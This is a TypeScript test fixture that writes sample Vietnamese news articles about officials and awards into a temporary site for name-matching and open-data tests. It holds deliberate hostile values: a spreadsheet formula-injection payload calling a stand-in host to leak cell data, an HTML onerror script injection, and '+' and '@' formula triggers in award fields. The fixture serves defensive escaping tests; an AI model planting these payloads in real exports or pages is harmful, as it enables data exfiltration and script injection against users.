/**
 * A small site for the people, awards and open-data tests, written into a
 * temporary folder (tests never depend on content/): the same person in
 * several spellings and years, the same name in two provinces, a person
 * pinned across a merger, hostile names and award values.
 */
import { mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";

export const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")';
export const HOSTILE_NAME = '<img src=x onerror=alert(1)> "Lê"';

const FILES: Readonly<Record<string, string>> = {
  "gia-lai/2016-11-29-hoi-nghi-tong-ket.md": `---
title: Hội nghị tổng kết công tác năm 2016
date: 2016-11-29T14:00
province: gia-lai
reviewYear: 2016
planYear: 2017
officials:
  - name: Nguyễn Dũng
    role: Phó Giám đốc
    honorific: Ông
  - name: Trần Thị Bích Thủy
    role: Phó Giám đốc
    honorific: Bà
awards:
  - title: Lao động tiên tiến
    recipient: cá nhân
    count: 11
    conferredBy: Giám đốc Sở TT&TT
  - title: ${JSON.stringify(HOSTILE_TITLE)}
    recipient: "+84 cá nhân"
    count: 2
    conferredBy: "@SUM(A1:A9)"
---
Nội dung.
`,
  "gia-lai/2019-01-10-tong-ket-2018.md": `---
title: Tổng kết năm 2018
date: 2019-01-10
province: gia-lai
reviewYear: 2018
officials:
  - name: ${JSON.stringify("Ông Nguyễn Dũng".normalize("NFD"))}
    role: Giám đốc
awards:
  - title: Lao động tiên tiến
    recipient: cá nhân
    count: 5
---
Nội dung.
`,
  "ha-tinh/2016-12-07-tong-ket.md": `---
title: Tổng kết ngành Thông tin và Truyền thông Hà Tĩnh
date: 2016-12-07
province: ha-tinh
officials:
  - name: Nguyễn Dũng
    role: Chủ tịch UBND huyện
  - name: Đặng Minh Hưng
    role: Phó Chủ tịch UBND tỉnh
  - name: ${JSON.stringify(HOSTILE_NAME)}
    role: Chuyên viên
---
Nội dung.
`,
  "binh-dinh/2024-12-20-tong-ket.md": `---
title: Bình Định tổng kết năm 2024
date: 2024-12-20
province: binh-dinh
officials:
  - name: Lê Văn Cường
    id: le-van-cuong
    role: Giám đốc Sở
---
Nội dung.
`,
  "gia-lai/2025-12-20-tong-ket.md": `---
title: Gia Lai tổng kết năm 2025
date: 2025-12-20
province: gia-lai
officials:
  - name: Lê Văn Cường
    id: le-van-cuong
    role: Phó Chủ tịch UBND tỉnh
---
Nội dung.
`,
};

/** Writes the fixture's content/ under `root`; returns the article files (relative to root). */
export function writeFactsSite(root: string): string[] {
  const files: string[] = [];
  for (const [rel, text] of Object.entries(FILES)) {
    const file = path.join(root, "content", rel);
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, text);
    files.push(`content/${rel}`);
  }
  return files;
}
